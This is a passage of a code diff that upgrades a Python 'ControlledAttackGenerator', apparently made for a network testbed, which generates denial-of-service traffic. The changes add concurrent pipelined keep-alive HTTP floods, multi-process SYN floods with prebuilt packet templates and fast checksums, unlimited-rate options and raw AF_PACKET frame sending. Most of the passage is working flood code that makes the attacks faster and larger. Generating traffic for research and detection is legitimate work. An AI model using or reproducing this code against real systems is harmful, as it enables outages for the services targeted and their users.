 
-                # Progress
-                if time.time() - last_report >= 1.0:
-                    print(f"  Sent: {packets_sent:,} / {count:,} ({100*packets_sent/count:.1f}%)", end='\r')
-                    last_report = time.time()
+                # Rate limiting (once per batch)
+                bucket.wait(n)
 
-            s.close()
+                # Progress
+                now = clock()
+                if now >= next_report:
+                    print(progress.format(packets_sent, packets_sent / count), end='\r')
+                    next_report = now + 1_000_000_000
 
         except PermissionError:
             print("ERROR: Raw sockets require root privileges")
@@ -324,51 +972,50 @@ class ControlledAttackGenerator:
 
         return self.stats['attacks']['icmp_flood']
 
-    def http_flood(self, port=8080, count=500):
+    def http_flood(self, port=8080, count=500, keepalive=True,
+                   concurrency=64, pipeline_depth=1):
         """
         Controlled HTTP flood
 
         Args:
             port: Target HTTP port
             count: Exact number of HTTP requests to send
+            keepalive: Send over concurrent persistent connections
+                (False: one connection per request, the original mode)
+            concurrency: Number of concurrent connections (keepalive only)
+            pipeline_depth: Requests written before reading their
+                responses (keepalive only)
 
         Returns:
             dict: Statistics
         """
+        if concurrency < 1 or pipeline_depth < 1:
+            raise ValueError("concurrency and pipeline_depth must be at least 1")
+
         print(f"\n{'='*60}")
         print("CONTROLLED HTTP FLOOD ATTACK")
         print(f"{'='*60}")
         print(f"Target: http://{self.target_ip}:{port}/")
         print(f"Requests: {count:,}")
+        if keepalive:
+            print(f"Mode: keep-alive ({concurrency} concurrent connections, "
+                  f"{pipeline_depth} requests per write)")
+        else:
+            print("Mode: one connection per request")
         print("")
 
+        request = (f"GET / HTTP/1.1\r\nHost: {self.target_ip}\r\n"
+                   f"User-Agent: ResearchBot/1.0\r\n\r\n").encode()
+
         start_time = time.time()
-        requests_sent = 0
-        requests_failed = 0
 
         print("Sending HTTP requests...")
 
-        for i in range(count):
-            try:
-                # Create TCP socket
-                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-                s.settimeout(2)
-
-                # Connect
-                s.connect((self.target_ip, port))
-
-                # Send HTTP GET request
-                request = f"GET / HTTP/1.1\r\nHost: {self.target_ip}\r\nUser-Agent: ResearchBot/1.0\r\n\r\n"
-                s.sendall(request.encode())
-
-                requests_sent += 1
-                s.close()
-
-            except:
-                requests_failed += 1
-
-            if (i + 1) % 50 == 0:
-                print(f"  Sent: {requests_sent:,} / {count:,} ({100*requests_sent/count:.1f}%)", end='\r')
+        if keepalive:
+            requests_sent, requests_failed = asyncio.run(self._http_flood_async(
+                port, count, request, concurrency, pipeline_depth))
+        else:
+            requests_sent, requests_failed = self._http_flood_single(port, count, request)
 
         elapsed = time.time() - start_time
         rate = requests_sent / elapsed if elapsed > 0 else 0
@@ -389,11 +1036,124 @@ class ControlledAttackGenerator:
             'requests_failed': requests_failed,
             'duration': elapsed,
             'rate': rate,
+            'keepalive': keepalive,
             'attack_type': 'HTTP Flood'
         }
 
         return self.stats['attacks']['http_flood']
 
+    def _http_flood_single(self, port, count, request):
+        """Send each HTTP request on its own connection"""
+        requests_sent = 0
+        requests_failed = 0
+
+        for i in range(count):
+            try:
+                # Create TCP socket
+                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+                s.settimeout(2)
+
+                # Connect
+                s.connect((self.target_ip, port))
+
+                # Send HTTP GET request
+                s.sendall(request)
+
+                requests_sent += 1
+                s.close()
+
+            except:
+                requests_failed += 1
+
+            if (i + 1) % 50 == 0:
+                print(f"  Sent: {requests_sent:,} / {count:,} ({100*requests_sent/count:.1f}%)", end='\r')
+
+        return requests_sent, requests_failed
+
+    async def _http_flood_async(self, port, count, request, concurrency, pipeline_depth):
+        """
+        Send HTTP requests from concurrent keep-alive connections
+
+        Each of `concurrency` coroutines owns one connection and sends its
+        share of the requests, pipeline_depth at a time, reading the
+        responses before the next write. A connection the server closes
+        (an HTTP/1.0 server does after every response) is reopened.
+        A request counts as sent once it is written to the socket.
+
+        Returns:
+            tuple: (requests_sent, requests_failed)
+        """
+        requests_sent = 0
+        requests_failed = 0
+        next_report = 50
+        timeout = 2
+
+        async def read_response(reader):
+            """Read one response; True if the server keeps the connection"""
+            head = await reader.readuntil(b"\r\n\r\n")
+            lines = head.decode('latin-1').lower().split('\r\n')
+            headers = dict(line.split(':', 1) for line in lines[1:] if ':' in line)
+            connection = headers.get('connection', '').strip()
+            length = headers.get('content-length')
+            if length is None:
+                # Body runs to the end of the connection
+                return False
+            await reader.readexactly(int(length))
+            if lines[0].startswith('http/1.0'):
+                return connection == 'keep-alive'
+            return connection != 'close'
+
+        async def worker(n):
+            nonlocal requests_sent, requests_failed, next_report
+            reader = writer = None
+
+            while n > 0:
+                burst = min(pipeline_depth, n)
+                n -= burst
+
+                try:
+                    if writer is None:
+                        reader, writer = await asyncio.wait_for(
+                            asyncio.open_connection(self.target_ip, port), timeout)
+                    writer.write(request * burst)
+                    await writer.drain()
+                except (OSError, asyncio.TimeoutError):
+                    requests_failed += burst
+                    if writer is not None:
+                        writer.close()
+                    reader = writer = None
+                    continue
+
+                requests_sent += burst
+                if requests_sent + requests_failed >= next_report:
+                    print(f"  Sent: {requests_sent:,} / {count:,} ({100*requests_sent/count:.1f}%)", end='\r')
+                    next_report += 50
+
+                # Discard the responses; reconnect if the server is done
+                try:
+                    for _ in range(burst):
+                        if not await asyncio.wait_for(read_response(reader), timeout):
+                            raise ConnectionResetError
+                except (OSError, ValueError, asyncio.TimeoutError,
+                        asyncio.IncompleteReadError, asyncio.LimitOverrunError):
+                    writer.close()
+                    reader = writer = None
+
+            if writer is not None:
+                writer.close()
+                try:
+                    await writer.wait_closed()
+                except OSError:
+                    pass
+
+        workers = max(1, min(concurrency, count))
+        await asyncio.gather(*(
+            worker(count // workers + (1 if i < count % workers else 0))
+            for i in range(workers)
+        ))
+
+        return requests_sent, requests_failed
+
     def _build_tcp_header(self, source_port, dest_port, syn=False):
         """Build TCP header"""
         seq = random.randint(0, 0xffffffff)
@@ -404,31 +1164,18 @@ class ControlledAttackGenerator:
         check = 0
         urg_ptr = 0
 
-        tcp_header = struct.pack(
-            '!HHLLBBHHH',
+        buf = self._tcp_buf
+        self._TCP_HEADER.pack_into(
+            buf, 12,
             source_port, dest_port, seq, ack_seq,
             offset, flags, window, check, urg_ptr
         )
 
-        # Pseudo header for checksum
-        source_addr = socket.inet_aton(self.source_ip)
-        dest_addr = socket.inet_aton(self.target_ip)
-        placeholder = 0
-        protocol = socket.IPPROTO_TCP
-        tcp_length = len(tcp_header)
-
-        pseudo_header = struct.pack(
-            '!4s4sBBH',
-            source_addr, dest_addr, placeholder, protocol, tcp_length
-        )
-
-        checksum = self._checksum(pseudo_header + tcp_header)
-        tcp_header = struct.pack(
-            '!HHLLBBH',
-            source_port, dest_port, seq, ack_seq, offset, flags, window
-        ) + struct.pack('H', checksum) + struct.pack('!H', urg_ptr)
+        # Checksum covers the pseudo header already at the start of buf
+        checksum = self._checksum(buf)
+        struct.pack_into('!H', buf, 28, checksum)
 
-        return tcp_header
+        return bytes(self._tcp_view[12:])
 
     def _build_ip_header(self, payload_len, protocol):
         """Build IP header"""
@@ -440,22 +1187,19 @@ class ControlledAttackGenerator:
         ttl = 64
         check = 0
 
-        source_addr = socket.inet_aton(self.source_ip)
-        dest_addr = socket.inet_aton(self.target_ip)
-
-        ip_header = struct.pack(
-            '!BBHHHBBH4s4s',
+        buf = self._ip_buf
+        self._IP_HEADER.pack_into(
+            buf, 0,
             version_ihl, tos, total_len, id, frag_off,
-            ttl, protocol, check, source_addr, dest_addr
+            ttl, protocol, check, self._src_addr, self._dst_addr
         )
 
-        checksum = self._checksum(ip_header)
-        ip_header = struct.pack(
-            '!BBHHHBB',
-            version_ihl, tos, total_len, id, frag_off, ttl, protocol
-        ) + struct.pack('H', checksum) + struct.pack('!4s4s', source_addr, dest_addr)
+        # Network byte order: AF_PACKET frames go out exactly as built
+        # (with IP_HDRINCL the kernel rewrites this field anyway)
+        checksum = self._checksum(buf)
+        struct.pack_into('!H', buf, 10, checksum)
 
-        return ip_header
+        return bytes(buf)
 
     def _build_icmp_packet(self, seq):
         """Build ICMP echo request"""
@@ -465,21 +1209,65 @@ class ControlledAttackGenerator:
         packet_id = random.randint(0, 65535)
         sequence = seq
 
-        # Data payload (56 bytes like standard ping)
-        data = b'A' * 56
+        # Pack header in front of the 56-byte data payload
+        buf = self._icmp_buf
+        self._ICMP_HEADER.pack_into(buf, 0, icmp_type, code, checksum, packet_id, sequence)
+
+        # Calculate checksum and write it in place
+        checksum = self._checksum(buf)
+        struct.pack_into('!H', buf, 2, checksum)
+
+        return bytes(buf)
+
+    def _sum16(self, data):
+        """Sum of big-endian 16-bit words (an unfolded checksum)"""
+        return sum(struct.unpack('!%dH' % (len(data) // 2), data))
+
+    def _prebuild_syn_template(self, dest_port):
+        """
+        Build a 40-byte IP+TCP SYN packet with its per-packet fields zeroed
+
+        The IP id, TCP source port, sequence number and both checksums are
+        zero. The returned partial sums cover every other field, so each
+        packet's checksums only need its own field values folded in.
+
+        Returns:
+            tuple: (template bytearray, IP header partial sum,
+                    TCP pseudo-header + header partial sum)
+        """
+        tcp_header = self._build_tcp_header(0, dest_port, syn=True)
+        ip_header = self._build_ip_header(len(tcp_header), socket.IPPROTO_TCP)
+
+        template = bytearray(ip_header + tcp_header)
+        template[4:6] = bytes(2)      # IP id
+        template[10:12] = bytes(2)    # IP checksum
+        template[24:28] = bytes(4)    # TCP sequence number
+        template[36:38] = bytes(2)    # TCP checksum
+
+        pseudo_header = struct.pack(
+            '!4s4sBBH',
+            socket.inet_aton(self.source_ip), socket.inet_aton(self.target_ip),
+            0, socket.IPPROTO_TCP, len(tcp_header)
+        )
+
+        ip_partial = self._sum16(template[:20])
+        tcp_partial = self._sum16(pseudo_header + template[20:])
 
-        # Pack header
-        header = struct.pack('!BBHHH', icmp_type, code, checksum, packet_id, sequence)
+        return template, ip_partial, tcp_partial
 
-        # Calculate checksum
-        checksum = self._checksum(header + data)
+    def _prebuild_icmp_template(self):
+        """
+        Build an ICMP echo request with id, sequence and checksum zeroed
 
-        # Repack with checksum
-        header = struct.pack('!BBH', icmp_type, code, checksum) + struct.pack('!HH', packet_id, sequence)
+        Returns:
+            tuple: (template bytearray, partial sum over the packet)
+        """
+        template = bytearray(self._build_icmp_packet(0))
+        template[2:6] = bytes(4)      # Checksum and id (sequence is already 0)
 
-        return header + data
+        return template, self._sum16(template)
 
-    def run_standard_suite(self):
+    def run_standard_suite(self, http_keepalive=True):
         """Run standard attack suite with fixed parameters"""
         print(f"\n{'='*60}")
         print("CONTROLLED ATTACK SUITE")
@@ -497,7 +1285,7 @@ class ControlledAttackGenerator:
         print("")
 
         # Run attacks
-        self.http_flood(port=8080, count=500)
+        self.http_flood(port=8080, count=500, keepalive=http_keepalive)
         time.sleep(2)
 
         self.icmp_flood(count=10000, rate=1000)
@@ -507,6 +1295,7 @@ class ControlledAttackGenerator:
         time.sleep(2)
 
         self.syn_flood(port=8080, count=100000, rate=10000)
+        self.close()
 
         # Finalize stats
         self.stats['end_time'] = time.time()
@@ -556,6 +1345,32 @@ class ControlledAttackGenerator:
         return self.stats
 
 
+def _syn_flood_worker(worker_id, count, rate, port, sport_range, generator_args):
+    """
+    One process of syn_flood_parallel
+
+    Returns:
+        tuple: (packets_sent, packets_failed)
+    """
+    # Forked workers inherit the parent's RNG state; give each a fresh,
+    # distinct stream so runs do not repeat each other
+    random.seed(os.urandom(8) + worker_id.to_bytes(4, 'little'))
+
+    generator = ControlledAttackGenerator(*generator_args)
+    try:
+        return generator._send_syn_batches(port, count, rate, sport_range, report=False)
+    finally:
+        generator.close()
+
+
+def _positive_int(value):
+    """argparse type: an integer of at least 1"""
+    n = int(value)
+    if n < 1:
+        raise argparse.ArgumentTypeError(f"must be at least 1, got {n}")
+    return n
+
+
 if __name__ == '__main__':
     parser = argparse.ArgumentParser(description='Controlled Attack Traffic Generator')
     parser.add_argument('target', help='Target IP address')
@@ -565,25 +1380,52 @@ if __name__ == '__main__':
 
     # Attack-specific parameters
     parser.add_argument('--syn-count', type=int, default=100000, help='SYN flood packet count')
-    parser.add_argument('--syn-rate', type=int, default=10000, help='SYN flood rate (pps)')
+    parser.add_argument('--syn-rate', type=int, default=10000, help='SYN flood rate (pps, 0 = unlimited)')
+    parser.add_argument('--syn-workers', type=int, default=1,
+                       help='SYN flood worker processes (0 = one per CPU, default: 1)')
     parser.add_argument('--icmp-count', type=int, default=10000, help='ICMP flood packet count')
-    parser.add_argument('--icmp-rate', type=int, default=1000, help='ICMP flood rate (pps)')
+    parser.add_argument('--icmp-rate', type=int, default=1000, help='ICMP flood rate (pps, 0 = unlimited)')
     parser.add_argument('--http-count', type=int, default=500, help='HTTP request count')
+    parser.add_argument('--no-keepalive', action='store_true',
+                       help='HTTP flood: one connection per request (original mode)')
+    parser.add_argument('--http-concurrency', type=_positive_int, default=64,
+                       help='HTTP flood concurrent connections (default: 64)')
+    parser.add_argument('--http-pipeline', type=_positive_int, default=1,
+                       help='HTTP flood requests per write on each connection (default: 1)')
     parser.add_argument('--scan-start', type=int, default=1, help='Port scan start port')
     parser.add_argument('--scan-end', type=int, default=1000, help='Port scan end port')
-    parser.add_argument('--scan-rate', type=int, default=1000, help='Port scan rate (pps)')
+    parser.add_argument('--scan-rate', type=int, default=1000, help='Port scan rate (pps, 0 = unlimited)')
+    parser.add_argument('--af-packet', action='store_true',
+                       help='Send SYN/scan/ICMP packets as Ethernet frames on --iface (AF_PACKET)')
+    parser.add_argument('--iface', help='Egress interface for --af-packet (e.g. lb-eth0)')
+    parser.add_argument('--dst-mac', default=ControlledAttackGenerator.DEFAULT_DST_MAC,
+                       help='Target MAC for --af-packet (default: SDN victim '
+                            f'{ControlledAttackGenerator.DEFAULT_DST_MAC}; '
+                            'the traditional topology uses 00:00:00:00:00:09)')
 
     args = parser.parse_args()
+    if args.af_packet and not args.iface:
+        parser.error('--af-packet requires --iface')
 
-    generator = ControlledAttackGenerator(args.target, args.source)
+    generator = ControlledAttackGenerator(args.target, args.source,
+                                          use_af_packet=args.af_packet,
+                                          iface=args.iface, dst_mac=args.dst_mac)
 
     if args.attack == 'all':
-        generator.run_standard_suite()
+        generator.run_standard_suite(http_keepalive=not args.no_keepalive)
     elif args.attack == 'syn':
-        generator.syn_flood(count=args.syn_count, rate=args.syn_rate)
+        if args.syn_workers == 1:
+            generator.syn_flood(count=args.syn_count, rate=args.syn_rate)
+        else:
+            generator.syn_flood_parallel(count=args.syn_count, rate=args.syn_rate,
+                                         workers=args.syn_workers or None)
     elif args.attack == 'scan':
         generator.port_scan(start_port=args.scan_start, end_port=args.scan_end, rate=args.scan_rate)
     elif args.attack == 'http':
-        generator.http_flood(count=args.http_count)
+        generator.http_flood(count=args.http_count, keepalive=not args.no_keepalive,
+                             concurrency=args.http_concurrency,
+                             pipeline_depth=args.http_pipeline)
     elif args.attack == 'icmp':
         generator.icmp_flood(count=args.icmp_count, rate=args.icmp_rate)
+
+    generator.close()